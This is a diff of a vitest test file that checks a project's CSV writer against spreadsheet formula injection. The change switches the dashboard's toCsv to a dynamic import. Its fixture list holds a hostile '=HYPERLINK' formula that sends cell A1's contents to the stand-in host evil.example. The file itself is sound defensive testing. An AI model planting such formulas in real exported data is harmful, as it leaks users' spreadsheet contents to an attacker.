@@ -6,7 +6,6 @@ import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { csvCell, csvRow, toCsv } from '@rivals/contracts';
 import { csv as cliCsv } from '../../../packages/cli/src/format.js';
-import { toCsv as dashboardCsv } from '../../../packages/dashboard/src/csv.js';
 
 const HOSTILE_NAMES = [
   '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -61,7 +60,10 @@ describe('csvCell', () => {
     expect(csvRow(['a', '=b', 'c;d'])).toBe(`a,"'=b","c;d"`);
   });
 
-  it('is the writer of the dashboard and the CLI too', () => {
+  it('is the writer of the dashboard and the CLI too', async () => {
+    // Loaded by path: the dashboard's module is typed for the browser (its own tsconfig), not for the tests'.
+    const dashboardModule: string = '../../../packages/dashboard/src/csv.js';
+    const { toCsv: dashboardCsv } = (await import(dashboardModule)) as { toCsv: (columns: string[], rows: Record<string, unknown>[]) => string };
     for (const name of HOSTILE_NAMES) {
       const expected = toCsv(['company'], [[name]]);
       expect(dashboardCsv(['company'], [{ company: name }])).toBe(expected);
